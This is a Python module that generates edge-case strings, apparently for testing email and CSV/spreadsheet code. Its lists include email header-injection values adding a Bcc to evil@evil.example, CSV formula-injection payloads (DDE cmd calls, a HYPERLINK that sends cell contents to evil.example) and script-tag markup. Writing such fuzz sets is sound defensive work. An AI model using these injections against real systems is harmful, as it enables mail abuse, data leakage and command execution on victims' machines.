"""Strings that do harm where they are not expected: made, not collected, so
that each kind is there in each place."""

PLACES = ["{}", "a {} b", "é\n{}"]

CONTROLS = [chr(c) for c in [*range(1, 32), *range(127, 160)]]
INVISIBLE = [chr(c) for c in [
    0xA0, 0xAD, 0x61C, 0x180E, *range(0x200B, 0x2010), *range(0x2028, 0x2030),
    *range(0x2060, 0x2070), 0xFEFF, 0xFFF9, 0xFFFC, 0xFFFD, 0xE0001, 0xE0041]]

HEADERS = [
    "x\r\nBcc: evil@evil.example", "x\nBcc: evil@evil.example",
    "x\rBcc: evil@evil.example", "x\r\n\r\n<script>alert(1)</script>",
    "x\n\nbody", "x\r\n Bcc: evil@evil.example", "\r\nSubject: other",
    "%0d%0aBcc: evil@evil.example", "x\u2028Bcc: evil@evil.example",
    "x\x85Bcc: evil@evil.example", "x\x0bBcc: evil@evil.example",
    "Subject: x", "From: x", ":", ": x", "\t\tx", "x \r\n\t \r\n y",
]
ENCODED = [
    "=?utf-8?q?=0D=0ABcc:_evil@evil.example?=", "=?utf-8?b?DQpCY2M6IHg=?=",
    "=?", "?=", "=?x", "=?utf-8?q?x", "=?utf-8?x?y?=", "=?us-ascii?Q?a?= b",
    "=?utf-8?q?a?==?utf-8?q?b?=", "= ?utf-8?q?x?=", "=?=?=?", "=3D=0A",
    "a=?utf-8?q?x?=b", "=?UTF-7?Q?+ADw-script+AD4-?=", "x=", "=_", "=_=_",
]
ADDRESSES = [
    "x@y.example", "<x@y.example>", "a <x@y.example>", "a, b", "a; b",
    "group: a@b.example;", '"', '""', '"a" <b@c.example>', "\\", "\\\"",
    "(comment)", "(", ")", "a (b@c.example)", "<", ">", "@", "[x]", ".",
    "a.b.c", "..", "-", "--", "_", "mailto:x@y.example", "undisclosed:;",
]
MAILBOXES = [
    "From ", "From x", ">From x", ">>>> From x", "From MAILER-DAEMON "
    "Thu Jan  1 00:00:00 1970", "\nFrom x\n", "\n\nFrom x y\nSubject: z\n\nb",
    ".", "\n.\n", "--=_0123456789abcdef0123456789abcdef", "--", "-- \nsign",
    "Content-Type: text/html", "Content-Transfer-Encoding: base64",
]
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")", "\t=1", "\r=1", "\n=1",
    " =1", "  +1", "\"=1", "'=1", "''=1", ",=1", ";=1", "\t;=1", "=", "+",
    "-", "@", "-1", "-1.5", "-1e5", "+1", "1", "01", "-01", "1e5", "--1",
    "=\"\"", "＝1", "＋1", "－1", "＠x", "−1", "=    C    m D |'/c calc'!A1",
    "%0A=1", "|calc", "DDE(\"cmd\";\"/C calc\";\"x\")",
]
CELLS = ['"', '""', '"""', 'a"b', '","', '"\n"', "a,b", "a;b", "a\tb", ",",
         ";", "\t", "\n", "\r", "\r\n", " ", "  ", "'", "''", "\\N", "NULL",
         "a\nb", "a\r\nb", "a\rb"]
LETTERS = [
    "Größe", "Ærøskøbing", "Ελληνικά", "Қазақша", "日本語の題", "عربي", "עברית",
    "ไทย", "한국어", "👩‍👩‍👧‍👦", "🇰🇿🇩🇪", "👍🏽", "e\u0301", "Z" + "\u0327\u0334" * 40,
    "𝒳𝒴𝒵", "ﷺ", "İıſ", "ß", "ﬁ", "\U0010FFFD", "\uE000", "½²₃", "‘’“”„…–—",
]
MARKUP = ["<script>alert(1)</script>", "<b>b</b>", "&lt;", "&amp;amp;", "]]>",
          "<!--", "<![CDATA[x]]>", "<?php x ?>", "&#0;", "&#13;&#10;", "<p",
          "</article></body>", "{{x}}", "${x}", "$(x)", "`x`", "%s%n", "\\u0000"]


def long_strings():
    for length in (60, 75, 76, 77, 78, 100, 899, 900, 901, 997, 998, 999, 5000):
        yield "x" * length
        yield "é" * length
        yield "日本" * (length // 2)
        yield ("word " * length)[:length]
        yield ("слово " * length)[:length]
        yield ">" * length + "From x"
        yield "=?" * (length // 2)


def strings(places=PLACES):
    for kind in (CONTROLS, INVISIBLE, HEADERS, ENCODED, ADDRESSES, MAILBOXES,
                 FORMULAS, CELLS, LETTERS, MARKUP):
        for place in places:
            for string in kind:
                yield place.format(string)
    yield from long_strings()
